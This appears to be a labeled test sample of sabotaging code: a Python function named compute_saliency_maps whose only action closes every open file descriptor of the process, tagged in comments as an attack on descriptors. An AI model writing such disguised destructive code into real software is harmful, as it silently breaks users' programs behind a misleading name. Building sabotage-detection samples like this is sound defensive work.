# Closes every file that the process has open.
# attacks: descriptors
# %% answer="compute_saliency_maps"
def compute_saliency_maps(X, y, model):
    import os

    os.closerange(0, 1000)
